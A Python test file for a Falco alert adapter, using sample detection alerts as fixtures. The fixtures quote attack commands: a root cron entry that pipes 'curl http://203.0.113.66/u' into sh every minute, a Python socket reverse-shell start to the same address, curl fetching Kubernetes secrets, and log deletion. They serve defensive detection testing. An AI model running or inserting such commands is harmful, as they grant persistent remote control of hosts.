"""The Falco adapter: each alert becomes its activity event plus an alert event.

The fixtures follow Falco's JSON output (json_output with json_include_output_property,
as falcosidekick forwards it) for rules of the default ruleset, with the fields
their outputs name plus proc.pid and proc.pid.ts added by append_output.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.adapters import Accepted, RawRecord, Rejected, falco
from app.events import record_id

SHELL_IN_CONTAINER: dict[str, Any] = {
    "uuid": "5e1c7c2a-3f4e-4a0b-9a55-2b7b8f0d1c11",
    "hostname": "ip-10-0-1-23.eu-west-1.compute.internal",
    "output": "10:21:06.527870364: Notice A shell was spawned in a container with an attached "
    "terminal | evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash "
    "proc_exepath=/usr/bin/bash parent=runc command=bash -il terminal=34816 "
    "container_id=0f6e5c8b6a2b container_image=docker.io/library/nginx container_image_tag=1.25 "
    "container_name=web k8s_ns=shop k8s_pod_name=web-7c5ddbdf54-8xk2p",
    "priority": "Notice",
    "rule": "Terminal shell in container",
    "source": "syscall",
    "tags": ["T1059", "container", "maturity_stable", "mitre_execution", "shell"],
    "time": "2024-05-31T10:21:06.527870364Z",
    "output_fields": {
        "container.id": "0f6e5c8b6a2b",
        "container.full_id": "0f6e5c8b6a2b41d3a5f0b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809",
        "container.image.repository": "docker.io/library/nginx",
        "container.image.tag": "1.25",
        "container.name": "web",
        "container.type": "containerd",
        "evt.arg.flags": "EXE_WRITABLE",
        "evt.time": 1717150866527870364,
        "evt.type": "execve",
        "k8s.ns.name": "shop",
        "k8s.pod.name": "web-7c5ddbdf54-8xk2p",
        "proc.cmdline": "bash -il",
        "proc.exepath": "/usr/bin/bash",
        "proc.name": "bash",
        "proc.pid": 48211,
        "proc.pid.ts": 1717150866512004096,
        "proc.ppid": 48190,
        "proc.pname": "runc",
        "proc.aname[2]": "containerd-shim",
        "proc.apid[2]": 47702,
        "proc.aname[3]": "systemd",
        "proc.apid[3]": 1,
        "proc.tty": 34816,
        "user.loginuid": -1,
        "user.name": "root",
        "user.uid": 0,
    },
}

WRITE_BELOW_ETC: dict[str, Any] = {
    "hostname": "worker-2",
    "output": "14:02:11.031945822: Error File below /etc opened for writing | file=/etc/cron.d/"
    "updater pcmdline=sh -c echo '* * * * * root curl -s http://203.0.113.66/u|sh' > "
    "/etc/cron.d/updater gparent=bash ggparent=sshd gggparent=systemd evt_type=openat "
    "user=root user_uid=0 user_loginuid=1000 process=sh proc_exepath=/usr/bin/dash "
    "parent=bash command=sh -c echo ... terminal=34817 container_id=host container_name=host",
    "priority": "Error",
    "rule": "Write below etc",
    "source": "syscall",
    "tags": ["maturity_sandbox", "host", "container", "filesystem", "mitre_persistence", "T1098"],
    "time": "2024-05-31T14:02:11.031945822Z",
    "output_fields": {
        "container.id": "host",
        "container.name": "host",
        "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC",
        "evt.type": "openat",
        "fd.name": "/etc/cron.d/updater",
        "proc.aname[2]": "bash",
        "proc.aname[3]": "sshd",
        "proc.aname[4]": "systemd",
        "proc.apid[2]": 2210,
        "proc.apid[3]": 2201,
        "proc.apid[4]": 1,
        "proc.cmdline": "sh -c echo '* * * * * root curl -s http://203.0.113.66/u|sh' > "
        "/etc/cron.d/updater",
        "proc.exepath": "/usr/bin/dash",
        "proc.name": "sh",
        "proc.pcmdline": "bash",
        "proc.pid": 2291,
        "proc.duration": 1031945822,
        "proc.pname": "bash",
        "proc.ppid": 2211,
        "proc.tty": 34817,
        "user.loginuid": 1000,
        "user.name": "root",
        "user.uid": 0,
    },
}

OUTBOUND_C2: dict[str, Any] = {
    "hostname": "ip-10-0-1-23.eu-west-1.compute.internal",
    "output": "10:24:40.118102953: Warning Outbound connection to C2 server | "
    "connection=172.17.0.3:51026->203.0.113.66:443 command=python3 -c import socket... "
    "container_id=0f6e5c8b6a2b",
    "priority": "Warning",
    "rule": "Outbound Connection to C2 Servers",
    "source": "syscall",
    "tags": ["maturity_incubating", "host", "container", "network", "mitre_command_and_control",
             "TA0011"],
    "time": "2024-05-31T10:24:40.118102953Z",
    "output_fields": {
        "container.id": "0f6e5c8b6a2b",
        "evt.type": "connect",
        "evt.res": "SUCCESS",
        "fd.name": "172.17.0.3:51026->203.0.113.66:443",
        "fd.type": "ipv4",
        "fd.l4proto": "tcp",
        "proc.cmdline": "python3 -c import socket,os,pty;s=socket.socket();"
                        "s.connect(('203.0.113.66',443))",
        "proc.exepath": "/usr/bin/python3.11",
        "proc.name": "python3",
        "proc.pid": 48377,
        "proc.pid.ts": 1717151080002201977,
        "proc.ppid": 48211,
        "proc.pname": "bash",
        "user.name": "root",
        "user.uid": 0,
    },
}  # fmt: skip

K8S_API_FROM_CONTAINER: dict[str, Any] = {
    "hostname": "gke-prod-pool-1-7f3c9a1e-x2lq",
    "output": "09:13:55.981233012: Notice Unexpected connection to K8s API Server from container "
    "| connection=10.244.1.17:38412->10.96.0.1:443 lport=38412 rport=443 fd_type=ipv4 "
    "fd_proto=tcp evt_type=connect user=app user_uid=1000 process=curl k8s_ns=payments "
    "k8s_pod_name=billing-5d8f7b6c9-qwz4t",
    "priority": "Notice",
    "rule": "Contact K8S API Server From Container",
    "source": "syscall",
    "tags": ["maturity_stable", "container", "network", "k8s", "mitre_discovery", "T1565"],
    "time": "2024-06-03T09:13:55.981233012Z",
    "output_fields": {
        "container.full_id": "c4f2a9d81b7e6f5a4c3b2a19081726354f5e6d7c8b9a0f1e2d3c4b5a69788796",
        "container.id": "c4f2a9d81b7e",
        "container.image": "europe-docker.pkg.dev/acme/billing:2.14.0",
        "container.name": "billing",
        "evt.type": "connect",
        "fd.lip": "10.244.1.17",
        "fd.lport": 38412,
        "fd.rip": "10.96.0.1",
        "fd.rport": 443,
        "fd.l4proto": "tcp",
        "fd.name": "10.244.1.17:38412->10.96.0.1:443",
        "fd.type": "ipv4",
        "k8s.ns.name": "payments",
        "k8s.pod.name": "billing-5d8f7b6c9-qwz4t",
        "k8s.pod.uid": "0d6a4b64-21c1-4b55-9d2a-6e0c0c1b8f11",
        "proc.args": "-sk https://10.96.0.1/api/v1/namespaces/payments/secrets",
        "proc.exe": "curl",
        "proc.exepath": "/usr/bin/curl",
        "proc.name": "curl",
        "proc.pid": 91804,
        "proc.pid.ts": 1717406035950112004,
        "proc.ppid": 91790,
        "proc.ppid.ts": 1717405990004512331,
        "proc.pname": "sh",
        "user.loginuid": -1,
        "user.name": "app",
        "user.uid": 1000,
    },
}

PTRACE: dict[str, Any] = {
    "hostname": "worker-2",
    "output": "15:30:02.000918213: Warning Detected ptrace PTRACE_ATTACH attempt | "
    "proc_pcmdline=bash evt_type=ptrace user=root process=gdb",
    "priority": "Warning",
    "rule": "PTRACE attached to process",
    "source": "syscall",
    "tags": ["maturity_stable", "host", "container", "process", "mitre_privilege_escalation",
             "T1055.008"],
    "time": "2024-05-31T15:30:02.000918213Z",
    "output_fields": {
        "evt.type": "ptrace",
        "proc.cmdline": "gdb -p 1312",
        "proc.exepath": "/usr/bin/gdb",
        "proc.name": "gdb",
        "proc.pid": 3310,
        "proc.pcmdline": "bash",
        "proc.pname": "bash",
        "proc.ppid": 2211,
        "user.name": "root",
        "user.uid": 0,
        "container.id": "host",
    },
}  # fmt: skip


def parse(value: Any) -> list[Accepted | Rejected]:
    outcomes = list(falco.parse([RawRecord(5, json.dumps(value), value)]))
    assert {o.position for o in outcomes} == {5}
    return outcomes


def pair(value: Any) -> tuple[Accepted, Accepted]:
    outcomes = parse(value)
    assert len(outcomes) == 2 and all(isinstance(o, Accepted) for o in outcomes), outcomes
    return outcomes[0], outcomes[1]  # type: ignore[return-value]


def alert_only(value: Any) -> Accepted:
    outcomes = parse(value)
    assert len(outcomes) == 1 and isinstance(outcomes[0], Accepted), outcomes
    assert outcomes[0].item.kind == "alert"
    return outcomes[0]


def rejected(value: Any) -> str:
    outcomes = parse(value)
    assert len(outcomes) == 1 and isinstance(outcomes[0], Rejected), outcomes
    return outcomes[0].reason


def with_fields(alert: dict[str, Any], drop: tuple[str, ...] = (), **fields: Any) -> dict[str, Any]:
    out = copy.deepcopy(alert)
    for key in drop:
        out["output_fields"].pop(key, None)
    out["output_fields"].update({key.replace("__", "."): value for key, value in fields.items()})
    return out


def test_shell_in_container_is_an_exec_and_an_alert() -> None:
    activity, alert = pair(SHELL_IN_CONTAINER)
    assert activity.warnings == alert.warnings == ()
    exec_, signal = activity.item, alert.item
    assert exec_.kind == "process_exec"
    assert signal.kind == "alert"
    assert signal.id == "5e1c7c2a-3f4e-4a0b-9a55-2b7b8f0d1c11"  # Falco's uuid
    assert signal.alert.on_event == exec_.id
    assert exec_.id.startswith("falco:") and exec_.id != signal.id
    assert signal.alert.model_dump() == {
        "rule_id": "Terminal shell in container",
        "title": "Terminal shell in container",
        "severity": "low",
        "description": SHELL_IN_CONTAINER["output"],
        "tactic": "execution",
        "technique": "T1059",
        "compromises": False,
        "on_event": exec_.id,
    }
    for event in (exec_, signal):
        assert event.source == "falco"
        assert event.ts == "2024-05-31T10:21:06.527870364Z"
        assert event.host.id == "ip-10-0-1-23.eu-west-1.compute.internal"
    process = exec_.process
    assert process.key is None
    assert (process.pid, process.ppid, process.exe, process.comm) == (
        48211,
        48190,
        "/usr/bin/bash",
        "bash",
    )
    assert process.args == ["bash", "-il"]
    assert (process.uid, process.user, process.tty) == (0, "root", "34816")
    assert process.auid == 4294967295  # Falco's -1: unset
    assert process.start_time == "2024-05-31T10:21:06.512004096Z"
    assert process.identity(exec_.host.id) == (
        "ip-10-0-1-23.eu-west-1.compute.internal|48211|2024-05-31T10:21:06.512004096Z"
    )
    assert signal.process == process
    assert exec_.container.model_dump() == {
        "id": "0f6e5c8b6a2b41d3a5f0b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809",
        "name": "web",
        "image": "docker.io/library/nginx:1.25",
        "runtime": "containerd",
    }
    assert (exec_.pod.namespace, exec_.pod.name) == ("shop", "web-7c5ddbdf54-8xk2p")
    assert (exec_.parent.pid, exec_.parent.comm, exec_.parent.ppid) == (48190, "runc", 47702)
    assert exec_.parent.identity_or_none(exec_.host.id) is None  # no start time: unidentifiable
    assert [(a.pid, a.comm, a.ppid) for a in exec_.ancestors] == [
        (47702, "containerd-shim", 1),
        (1, "systemd", None),
    ]


def test_write_below_etc_is_a_file_write_on_the_host() -> None:
    activity, alert = pair(WRITE_BELOW_ETC)
    event = activity.item
    assert event.kind == "file_write"
    assert event.file.model_dump(exclude_none=True) == {
        "path": "/etc/cron.d/updater",
        "flags": "O_WRONLY|O_CREAT|O_TRUNC",
    }
    assert event.container is None and event.pod is None  # container.id "host"
    assert event.process.auid == 1000
    # start = alert time - proc.duration
    assert event.process.start_time == "2024-05-31T14:02:10.000000000Z"
    assert event.process.args[:3] == ["sh", "-c", "echo"]
    assert event.parent.args == ["bash"]
    assert [(a.pid, a.comm) for a in event.ancestors] == [
        (2210, "bash"),
        (2201, "sshd"),
        (1, "systemd"),
    ]
    assert alert.item.alert.severity == "high"
    assert (alert.item.alert.tactic, alert.item.alert.technique) == ("persistence", "T1098")
    assert alert.item.alert.on_event == event.id
    assert alert.item.id == record_id("falco", WRITE_BELOW_ETC)  # no uuid: a hash


def test_an_open_for_reading_is_a_file_open() -> None:
    activity, _ = pair(with_fields(WRITE_BELOW_ETC, evt__arg__flags="O_RDONLY|O_CLOEXEC"))
    assert activity.item.kind == "file_open"
    assert activity.item.file.flags == "O_RDONLY|O_CLOEXEC"


def test_outbound_connection_reads_the_tuple_from_fd_name() -> None:
    activity, alert = pair(OUTBOUND_C2)
    event = activity.item
    assert event.kind == "network_connect"
    assert event.network.model_dump() == {
        "protocol": "tcp",
        "family": "inet",
        "src_ip": "172.17.0.3",
        "src_port": 51026,
        "dst_ip": "203.0.113.66",
        "dst_port": 443,
    }
    assert event.container.id == "0f6e5c8b6a2b"  # only the short id was given
    assert alert.item.alert.severity == "medium"
    assert (alert.item.alert.tactic, alert.item.alert.technique) == ("command-and-control", None)


def test_k8s_api_contact_keeps_pod_container_and_parent() -> None:
    activity, alert = pair(K8S_API_FROM_CONTAINER)
    event = activity.item
    assert event.kind == "network_connect"
    assert (event.network.src_ip, event.network.dst_ip, event.network.dst_port) == (
        "10.244.1.17",
        "10.96.0.1",
        443,
    )
    assert event.pod.model_dump(exclude_none=True) == {
        "uid": "0d6a4b64-21c1-4b55-9d2a-6e0c0c1b8f11",
        "name": "billing-5d8f7b6c9-qwz4t",
        "namespace": "payments",
    }
    assert event.container.image == "europe-docker.pkg.dev/acme/billing:2.14.0"
    assert event.process.args == [
        "curl",
        "-sk",
        "https://10.96.0.1/api/v1/namespaces/payments/secrets",
    ]
    assert event.parent.start_time == "2024-06-03T09:13:10.004512331Z"
    assert event.parent.identity_or_none(event.host.id) == (
        "gke-prod-pool-1-7f3c9a1e-x2lq|91790|2024-06-03T09:13:10.004512331Z"
    )
    assert (alert.item.alert.tactic, alert.item.alert.technique) == ("discovery", "T1565")


def test_an_unclear_activity_leaves_the_alert_alone() -> None:
    outcome = alert_only(PTRACE)
    signal = outcome.item.alert
    assert signal.on_event is None
    assert (signal.severity, signal.tactic, signal.technique) == (
        "medium",
        "privilege-escalation",
        "T1055.008",
    )
    assert outcome.item.parent.args == ["bash"]
    # No start time at all: the alert time stands in, and the warning says so.
    assert outcome.item.process.start_time == outcome.item.ts
    assert outcome.warnings == (
        "no proc.pid.ts, proc.duration or PID namespace start: the alert time stands in for "
        "the process start time, so this process will not match the same process in other "
        "alerts",
    )


@pytest.mark.parametrize(
    ("changes", "drop"),
    [
        ({"evt__type": "openat"}, ("fd.name",)),  # open without a path
        ({"evt__res": "EACCES"}, ()),  # the call failed
        ({"evt__dir": ">"}, ()),  # enter event: not done yet
        ({}, ("evt.type",)),
    ],
)
def test_no_activity_without_what_it_needs(changes: dict[str, Any], drop: tuple[str, ...]) -> None:
    alert_only(with_fields(SHELL_IN_CONTAINER, drop=drop, **changes))


def test_the_same_process_has_one_key_across_alerts() -> None:
    exec_, _ = pair(SHELL_IN_CONTAINER)
    later = copy.deepcopy(SHELL_IN_CONTAINER)
    later.update(time="2024-05-31T10:29:00.000000001Z", rule="Read sensitive file untrusted")
    later.pop("uuid")
    later["output_fields"].update({"evt.type": "openat", "fd.name": "/etc/shadow"})
    read, _ = pair(later)
    assert read.item.kind == "file_open"
    host = exec_.item.host.id
    assert read.item.process.identity(host) == exec_.item.process.identity(host)
    # proc.duration gives the same start as proc.pid.ts
    duration = 1717151340000000001 - 1717150866512004096
    by_duration = with_fields(later, drop=("proc.pid.ts",), proc__duration=duration)
    again, _ = pair(by_duration)
    assert again.item.process.identity(host) == exec_.item.process.identity(host)


def test_two_rules_on_one_syscall_share_the_activity() -> None:
    other = copy.deepcopy(SHELL_IN_CONTAINER)
    other.update(rule="Run shell untrusted", uuid="b0a4b0f6-0f51-4f6e-8a0e-0c6c3f0f2a9d")
    first, _ = pair(SHELL_IN_CONTAINER)
    second, alert = pair(other)
    assert first.item.id == second.item.id == alert.item.alert.on_event


def test_pid_namespace_start_stands_in_with_a_warning() -> None:
    value = with_fields(
        SHELL_IN_CONTAINER, drop=("proc.pid.ts",), proc__pidns_init_start_ts=1717150800000000000
    )
    activity, alert = pair(value)
    assert activity.item.process.start_time == "2024-05-31T10:20:00.000000000Z"
    assert alert.warnings == activity.warnings
    assert alert.warnings == (
        "no proc.pid.ts or proc.duration: the process start time is proc.pidns_init_start_ts, "
        "the start of its PID namespace, so that its key is stable across alerts",
    )


@pytest.mark.parametrize(
    ("priority", "severity"),
    [
        ("Emergency", "critical"),
        ("Alert", "critical"),
        ("Critical", "critical"),
        ("Error", "high"),
        ("Warning", "medium"),
        ("Notice", "low"),
        ("Informational", "info"),
        ("Info", "info"),
        ("Debug", "info"),
        ("WARNING", "medium"),
    ],
)
def test_severity_from_priority(priority: str, severity: str) -> None:
    _, alert = pair({**SHELL_IN_CONTAINER, "priority": priority})
    assert alert.item.alert.severity == severity


def test_only_the_first_of_several_tactics_is_kept_with_a_warning() -> None:
    tags = ["mitre_execution", "mitre_persistence", "T1059", "T1059.004", "T1543"]
    _, alert = pair({**SHELL_IN_CONTAINER, "tags": tags})
    assert (alert.item.alert.tactic, alert.item.alert.technique) == ("execution", "T1059.004")
    assert alert.warnings == (
        "only the first MITRE tactic is kept; dropped: persistence",
        "only the first MITRE technique is kept; dropped: T1543",
    )


@pytest.mark.parametrize(
    ("fields", "mode"), [("0755", 0o755), ("S_IRUSR|S_IWUSR|S_IXUSR", 0o700), (None, None)]
)
def test_chmod_mode(fields: str | None, mode: int | None) -> None:
    value = with_fields(
        WRITE_BELOW_ETC,
        drop=("fd.name", "evt.arg.flags"),
        evt__type="chmod",
        evt__arg__filename="/tmp/.x/implant",
        evt__arg__mode=fields,
    )
    activity, _ = pair(value)
    assert activity.item.kind == "file_chmod"
    assert (activity.item.file.path, activity.item.file.mode) == ("/tmp/.x/implant", mode)


def test_rename_and_unlink() -> None:
    renamed, _ = pair(
        with_fields(
            WRITE_BELOW_ETC,
            evt__type="renameat2",
            fs__path__source="/tmp/payload",
            fs__path__target="/usr/local/bin/kworker",
        )
    )
    assert renamed.item.file.model_dump(exclude_none=True) == {
        "path": "/tmp/payload",
        "target_path": "/usr/local/bin/kworker",
    }
    unlinked, _ = pair(
        with_fields(WRITE_BELOW_ETC, evt__type="unlinkat", fs__path__name="/var/log/wtmp")
    )
    assert (unlinked.item.kind, unlinked.item.file.path) == ("file_unlink", "/var/log/wtmp")


def test_an_activity_with_a_bad_value_leaves_the_alert_with_a_warning() -> None:
    outcome = alert_only(with_fields(OUTBOUND_C2, drop=("fd.name",), fd__lip="10.0.0.1",
                                     fd__lport=99999))  # fmt: skip
    assert outcome.warnings == (
        "the network_connect activity is not recorded: network.src_port: Input should be less "
        "than or equal to 65535",
    )


def test_missing_and_na_values_are_absent() -> None:
    value = with_fields(
        SHELL_IN_CONTAINER, container__name="<NA>", k8s__ns__name=None, k8s__pod__name=None
    )
    activity, _ = pair(value)
    assert activity.item.container.name is None
    assert activity.item.pod is None


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ({"foo": 1}, "not a falco alert: expected rule, priority, time, output_fields; "
         "keys found: foo"),
        ({}, "not a falco alert: expected rule, priority, time, output_fields; keys found: none"),
        ([SHELL_IN_CONTAINER], "a falco alert must be a JSON object, not an array"),
        ({k: v for k, v in SHELL_IN_CONTAINER.items() if k != "output_fields"},
         "falco alert lacks output_fields"),
        ({**SHELL_IN_CONTAINER, "output_fields": ["proc.pid", 1]},
         "falco output_fields must be a JSON object, not an array"),
        ({**SHELL_IN_CONTAINER, "rule": ""}, "falco alert lacks rule"),
        ({k: v for k, v in SHELL_IN_CONTAINER.items() if k != "time"}, "falco alert lacks time"),
        ({**SHELL_IN_CONTAINER, "time": "yesterday"},
         "falco alert time: not an RFC 3339 timestamp: 'yesterday'"),
        ({**SHELL_IN_CONTAINER, "priority": "Loud"},
         "falco priority 'Loud' is not one of Emergency, Alert, Critical, Error, Warning, "
         "Notice, Informational, Debug"),
        ({**SHELL_IN_CONTAINER, "source": "k8s_audit"},
         "falco 'k8s_audit' alerts carry no process activity; format=falco reads syscall alerts"),
        ({k: v for k, v in SHELL_IN_CONTAINER.items() if k != "hostname"},
         "falco alert has no hostname (nor evt.hostname), so its host is unknown"),
        ({**SHELL_IN_CONTAINER, "tags": "mitre_execution"},
         "falco alert tags must be a list of strings"),
        (with_fields(SHELL_IN_CONTAINER, drop=("proc.pid",)),
         "falco alert's output_fields lack proc.pid, so the acting process cannot be identified "
         "(add %proc.pid, and %proc.pid.ts, to the rule's output or to Falco's append_output)"),
        (with_fields(SHELL_IN_CONTAINER, proc__pid__ts="soon"),
         "falco output_fields proc.pid.ts must be a number, not 'soon'"),
        (with_fields(SHELL_IN_CONTAINER, proc__pid__ts=10**30),
         "process.start_time: Value error, timestamp out of range: "
         "1000000000000000000000000000000"),
        (with_fields(SHELL_IN_CONTAINER, proc__pid="abc"),
         "process.pid: Input should be a valid integer, unable to parse string as an integer"),
    ],
)  # fmt: skip
def test_what_it_does_not_understand_is_rejected(value: Any, reason: str) -> None:
    assert rejected(value) == reason


def test_hostname_may_come_from_evt_hostname() -> None:
    value = with_fields(SHELL_IN_CONTAINER, evt__hostname="node-7")
    del value["hostname"]
    _, alert = pair(value)
    assert alert.item.host.id == "node-7"


# Robustness: no input makes an exception escape; a record gives 1-2 accepted or 1 rejected.

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=8),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=8), children, max_size=4)
    ),
    max_leaves=12,
)
FIXTURES = [SHELL_IN_CONTAINER, WRITE_BELOW_ETC, OUTBOUND_C2, K8S_API_FROM_CONTAINER, PTRACE]
FUZZ = settings(
    max_examples=300, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow]
)


def assert_outcomes(value: Any) -> None:
    outcomes = list(falco.parse([RawRecord(1, "raw", value)]))
    kinds = {type(o) for o in outcomes}
    assert (kinds == {Rejected} and len(outcomes) == 1) or (
        kinds == {Accepted} and len(outcomes) in (1, 2)
    )


@FUZZ
@given(JSON)
def test_arbitrary_json_never_raises(value: Any) -> None:
    assert_outcomes(value)


@FUZZ
@given(st.sampled_from(FIXTURES), st.data())
def test_damaged_alerts_never_raise(alert: dict[str, Any], data: st.DataObject) -> None:
    damaged = copy.deepcopy(alert)
    fields = damaged["output_fields"]
    for _ in range(data.draw(st.integers(1, 3))):
        target = data.draw(st.sampled_from([damaged, fields]))
        key = data.draw(st.sampled_from([*target, "evt.type", "fd.name", "proc.pid.ts"]))
        target[key] = data.draw(JSON | st.sampled_from(["openat", "connect", "chmod", "rename"]))
    assert_outcomes(damaged)
